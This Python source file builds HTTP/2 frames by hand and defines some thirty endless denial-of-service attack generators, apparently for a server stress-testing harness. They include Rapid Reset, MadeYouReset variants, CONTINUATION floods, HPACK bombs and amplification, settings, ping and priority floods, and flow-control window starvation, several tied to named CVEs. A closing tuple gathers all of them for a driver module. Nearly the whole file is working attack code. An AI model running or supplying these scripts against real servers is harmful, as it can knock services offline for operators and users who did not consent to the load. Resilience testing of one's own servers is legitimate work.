"""Attacks by HTTP/2, in frames made by hand (RFC 9113). Each is known by what it does to some server, once or still.

With prior knowledge, in clear text. What is said first is the preface and the client's settings.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from itertools import count

from .drive import Say, Script

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, PRIORITY_UPDATE = (
    *(0, 1, 2, 3, 4, 6, 8, 9),
    16,
)
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
LARGEST = (1 << 31) - 1
STREAMS = 100  # what servers grant
LAST = 1 << 30  # a connection has no more streams than half of this
FRAME_BYTES = 16384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def word(number: int) -> bytes:
    """32 bits."""
    return number.to_bytes(4)


def settings(*pairs: tuple[int, int]) -> bytes:
    """A frame of settings."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def integer(number: int, bits: int, first: int) -> bytes:
    """A number of HPACK behind the ``first`` bits of its byte (RFC 7541 section 5.1)."""
    most = (1 << bits) - 1
    if number < most:
        return bytes((first | number,))
    found, number = bytearray((first | most,)), number - most
    while number >= 128:
        found.append(number % 128 | 128)
        number >>= 7
    return bytes((*found, number))


def text(value: bytes) -> bytes:
    """A text of HPACK, without Huffman's code."""
    return integer(len(value), 7, 0) + value


def request(path: bytes) -> bytes:
    """The section of a GET that leaves the table as it is."""
    return b"\x82\x86\x01" + text(b"attacked") + b"\x04" + text(path)


def headers(stream: int, block: bytes, flags: int = END_STREAM | END_HEADERS) -> bytes:
    """A HEADERS frame."""
    return frame(HEADERS, flags, stream, block)


HELLO = PREFACE + settings()


def numbers(first: int = 1) -> Iterator[range]:
    """A hundred numbers of streams, and the next hundred, until there are no more."""
    for start in count(first, 2 * STREAMS):
        if start > LAST:
            return
        yield range(start, start + 2 * STREAMS, 2)


def by_streams(each: Callable[[int], bytes], first: int = 1) -> Iterator[Say]:
    """The same on stream after stream."""
    for streams in numbers(first):
        yield Say(b"".join(map(each, streams)))


def repeated(data: bytes, reads: bool = True) -> Iterator[Say]:
    """The same bytes again and again, about FRAME_BYTES of them at a time."""
    said = Say(data * max(1, FRAME_BYTES // len(data)), reads)
    while True:
        yield said


# Streams that are begun for nothing


def rapid_reset(path: bytes) -> Iterator[Say]:
    """A request and its reset, on stream after stream (CVE-2023-44487)."""
    yield Say(HELLO)
    yield from by_streams(lambda n: headers(n, request(path)) + frame(RST_STREAM, 0, n, word(8)))


def made_you_reset_by_window(path: bytes) -> Iterator[Say]:
    """A request, and a window that overflows, so that the server resets it (CVE-2025-8671)."""
    yield Say(HELLO)
    yield from by_streams(lambda n: headers(n, request(path)) + frame(WINDOW_UPDATE, 0, n, word(LARGEST)))


def made_you_reset_by_data(path: bytes) -> Iterator[Say]:
    """A request that has ended, and content behind it (CVE-2025-8671)."""
    yield Say(HELLO)
    yield from by_streams(lambda n: headers(n, request(path)) + frame(DATA, 0, n, b"x"))


def made_you_reset_by_increment(path: bytes) -> Iterator[Say]:
    """A request, and an increment of nothing (CVE-2025-8671)."""
    yield Say(HELLO)
    yield from by_streams(lambda n: headers(n, request(path)) + frame(WINDOW_UPDATE, 0, n, word(0)))


def made_you_reset_by_headers(path: bytes) -> Iterator[Say]:
    """A request that has ended, and the same again on its stream (CVE-2025-8671)."""
    yield Say(HELLO)
    yield from by_streams(lambda n: 2 * headers(n, request(path)))


def malformed(path: bytes) -> Iterator[Say]:
    """Requests that are to be reset (RFC 9113 section 8.1.1)."""
    yield Say(HELLO)
    yield from by_streams(lambda n: headers(n, request(path) + b"\x00" + text(b"te") + text(b"x")))


def refused(path: bytes) -> Iterator[Say]:
    """More streams than are granted, none of which ends."""
    yield Say(HELLO)
    yield from by_streams(lambda n: headers(n, request(path), END_HEADERS))


# Heads


def continuation(path: bytes) -> Iterator[Say]:
    """A head without end, in small frames (CVE-2024-27316)."""
    yield Say(HELLO + headers(1, request(path), END_STREAM))
    yield from repeated(frame(CONTINUATION, 0, 1, b"\x00" + text(b"x") + text(b"y")))


def continuation_empty(path: bytes) -> Iterator[Say]:
    """Heads of as many empty frames as are borne, one after the other."""
    yield Say(HELLO)
    empty = frame(CONTINUATION, 0, 1, b"")[:5]
    yield from by_streams(
        lambda n: (
            headers(n, request(path), END_STREAM)
            + (empty + word(n)) * 30
            + frame(CONTINUATION, END_HEADERS, n)
            + frame(RST_STREAM, 0, n, word(8))
        )
    )


def hpack_bomb(path: bytes) -> Iterator[Say]:
    """A field of 4 KiB, and a head that names it thousands of times (CVE-2016-6581)."""
    yield Say(HELLO)
    yield Say(headers(1, request(path) + b"\x40" + text(b"x") + text(b"b" * 4000)))
    while True:
        yield Say(headers(3, request(path) + b"\xbe" * 8000))


def hpack_amplification(path: bytes) -> Iterator[Say]:
    """A list of tags of 4,000 commas, named three times by each of many heads: 16 bytes for 12 KB."""
    yield Say(HELLO + headers(1, request(path) + b"\x69" + text(b"," * 4000)))
    yield from by_streams(lambda n: headers(n, request(path) + b"\xbe" * 3), first=3)


def hpack_amplified_path(path: bytes) -> Iterator[Say]:
    """A path of 4,000 bytes that names nothing, by one byte."""
    long = b"/" + b"a/" * 1990
    yield Say(HELLO + headers(1, b"\x82\x86\x01" + text(b"attacked") + b"\x44" + text(long)))
    yield from by_streams(lambda n: headers(n, b"\x82\x86\x01" + text(b"attacked") + b"\xbe"), first=3)


def hpack_many_fields(path: bytes) -> Iterator[Say]:
    """Heads of 90 fields of one byte each."""
    yield Say(HELLO + headers(1, request(path) + b"\x40" + text(b"a") + text(b"b")))
    yield from by_streams(lambda n: headers(n, request(path) + b"\xbe" * 90), first=3)


def hpack_churn(path: bytes) -> Iterator[Say]:
    """Heads that fill the table anew, and change its size twice."""
    yield Say(HELLO)
    block = b"\x20\x3f\xe1\x1f" + request(path) + b"\x40" + text(b"x") + text(b"y" * 1000)
    yield from by_streams(lambda n: headers(n, block))


def huffman(path: bytes) -> Iterator[Say]:
    """Heads of 12 KiB in Huffman's code, of bytes that have its longest codes."""
    yield Say(HELLO)
    bits = "11111111111111111111101010" + "1" * 6  # a byte of 26 bits and padding, whatever it is
    field = int(bits, 2).to_bytes(4) * 2500
    block = request(path) + b"\x00" + text(b"x") + integer(len(field), 7, 128) + field
    yield from by_streams(lambda n: headers(n, block))


def huffman_commas(path: bytes) -> Iterator[Say]:
    """Heads with 8 KB of commas in Huffman's code."""
    yield Say(HELLO)
    field = b"\xfa" * 8000  # a comma has eight bits
    block = request(path) + b"\x0f\x1a" + integer(len(field), 7, 128) + field
    yield from by_streams(lambda n: headers(n, block))


# Frames that cost their sender nothing


def settings_flood(path: bytes) -> Iterator[Say]:
    """Settings that say nothing, each to be acknowledged (CVE-2019-9515)."""
    yield Say(HELLO)
    yield from repeated(settings())


def settings_unknown(path: bytes) -> Iterator[Say]:
    """2,700 settings that nobody knows in each frame."""
    yield Say(HELLO)
    yield from repeated(settings(*[(0xFF00 + number % 256, 1) for number in range(2700)]))


def blocked(path: bytes) -> bytes:
    """A hello, and a hundred streams whose windows are shut."""
    return PREFACE + settings((INITIAL_WINDOW, 0)) + b"".join(headers(n, request(path)) for n in next(numbers()))


def settings_churn(path: bytes) -> Iterator[Say]:
    """The windows of a hundred streams that are shut, opened and shut by settings."""
    yield Say(blocked(path))
    yield from repeated(settings((INITIAL_WINDOW, 1)) + settings((INITIAL_WINDOW, 0)))


def ping_flood(path: bytes) -> Iterator[Say]:
    """Pings (CVE-2019-9512)."""
    yield Say(HELLO)
    yield from repeated(frame(PING, 0, 0, b"12345678"))


def ping_unread(path: bytes) -> Iterator[Say]:
    """Pings by a client that reads no answer."""
    yield Say(HELLO, reads=False)
    yield from repeated(frame(PING, 0, 0, b"12345678"), reads=False)


def empty_data(path: bytes) -> Iterator[Say]:
    """Content that is none, without end (CVE-2019-9518)."""
    yield Say(HELLO + headers(1, request(path), END_HEADERS))
    yield from repeated(frame(DATA, 0, 1))


def padded_data(path: bytes) -> Iterator[Say]:
    """Content that is padding alone."""
    yield Say(HELLO + headers(1, request(path), END_HEADERS))
    yield from repeated(frame(DATA, 8, 1, b"\x00"))


def priority_flood(path: bytes) -> Iterator[Say]:
    """Streams that are moved about a tree of priorities (CVE-2019-9513)."""
    yield Say(HELLO)
    yield from repeated(b"".join(frame(PRIORITY, 0, n, word(n + 2) + b"\x10") for n in next(numbers())))


def priority_update_flood(path: bytes) -> Iterator[Say]:
    """A hundred streams whose urgency changes all the time (RFC 9218)."""
    yield Say(blocked(path))
    parts = [frame(PRIORITY_UPDATE, 0, 0, word(n) + b"u=%d" % (n // 2 % 8)) for n in next(numbers())]
    yield from repeated(b"".join(parts))


def unknown_frames(path: bytes) -> Iterator[Say]:
    """Frames of a type that nobody knows."""
    yield Say(HELLO)
    yield from repeated(frame(200, 0, 0))


# Windows


def zero_windows(path: bytes) -> Iterator[Say]:
    """A hundred answers that may not begin, held."""
    yield Say(blocked(path))


def tiny_windows(path: bytes) -> Iterator[Say]:
    """A hundred answers that may go on by a byte at a time."""
    yield Say(blocked(path))
    yield from repeated(b"".join(frame(WINDOW_UPDATE, 0, n, word(1)) for n in next(numbers())))


def window_of_connection(path: bytes) -> Iterator[Say]:
    """The connection's window, opened by a byte at a time, while a hundred streams are blocked."""
    yield Say(blocked(path))
    yield from repeated(frame(WINDOW_UPDATE, 0, 0, word(1)))


def window_of_a_stream(path: bytes) -> Iterator[Say]:
    """One stream's window, opened by 4 KiB at a time beyond all that there is to send."""
    yield Say(blocked(path))
    yield from repeated(frame(WINDOW_UPDATE, 0, 1, word(4096)))


def slow_streams(path: bytes) -> Iterator[Say]:
    """A hundred answers, whose windows open by a byte once a second."""
    yield Say(blocked(path))
    while True:
        yield Say(b"".join(frame(WINDOW_UPDATE, 0, n, word(1)) for n in next(numbers())), pause_seconds=1.0)


SCRIPTS: tuple[Script, ...] = (
    *(rapid_reset, made_you_reset_by_window, made_you_reset_by_data, made_you_reset_by_increment),
    *(made_you_reset_by_headers, malformed, refused, continuation, continuation_empty, hpack_bomb),
    *(hpack_amplification, hpack_amplified_path, hpack_many_fields, hpack_churn, huffman, huffman_commas),
    *(settings_flood, settings_unknown, settings_churn, ping_flood, ping_unread, empty_data, padded_data),
    *(priority_flood, priority_update_flood, unknown_frames, zero_windows, tiny_windows, window_of_connection),
    *(window_of_a_stream, slow_streams),
)
"""Every one of them."""
